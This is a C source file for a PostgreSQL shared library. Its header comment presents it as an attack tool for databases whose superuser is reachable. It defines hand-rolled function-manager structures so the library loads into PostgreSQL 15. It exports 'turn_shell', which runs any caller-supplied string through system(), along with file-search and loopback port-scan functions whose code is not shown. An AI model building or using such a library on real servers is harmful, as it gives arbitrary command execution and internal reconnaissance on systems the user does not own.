// SPDX-License-Identifier: GPL-2.0
/*
 * A shared object for PostgreSQL's CREATE FUNCTION ... LANGUAGE C, as in the published attacks
 * on databases whose superuser can be reached. Its functions turn the backend's own process:
 *
 *	turn_shell(cstring)			runs a shell
 *	turn_search(cstring, padding int)	looks through files, without any new process
 *	turn_scan(first int, last int, padding int)	scans the ports of loopback, likewise
 *
 * The little of PostgreSQL 15's function interface is declared here: its headers are not needed
 * for anything else.
 */
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>

#include "turned.h"

/* fmgr.h: what a library says of the server that it was built for */
struct magic {
	int length, version, arguments_max, index_keys_max, name_length, float8_by_value;
	char abi[32];
};

/* fmgr.h: struct FunctionCallInfoBaseData */
struct call {
	void *function, *context, *result;
	uint32_t collation;
	bool is_null;
	short count;
	struct {
		uint64_t value;
		bool is_null;
	} argument[];
};

static const struct magic magic = { sizeof(magic), 1500, 100, 32, 64, 1, "PostgreSQL" };
static const struct {
	int version;
} interface = { 1 };

const struct magic *Pg_magic_func(void);
const struct magic *Pg_magic_func(void)
{
	return &magic;
}

const void *pg_finfo_turn_shell(void);
const void *pg_finfo_turn_shell(void)
{
	return &interface;
}

const void *pg_finfo_turn_search(void);
const void *pg_finfo_turn_search(void)
{
	return &interface;
}

const void *pg_finfo_turn_scan(void);
const void *pg_finfo_turn_scan(void)
{
	return &interface;
}

uint64_t turn_shell(struct call *call);
uint64_t turn_shell(struct call *call)
{
	return (uint32_t)system((const char *)call->argument[0].value);
}

uint64_t turn_search(struct call *call);
uint64_t turn_search(struct call *call)
{
	return (uint32_t)turned_search((const char *)call->argument[0].value,
				       (int)call->argument[1].value);
}

uint64_t turn_scan(struct call *call);
uint64_t turn_scan(struct call *call)
{
	return (uint32_t)turned_scan((int)call->argument[0].value, (int)call->argument[1].value,
				     (int)call->argument[2].value);
}
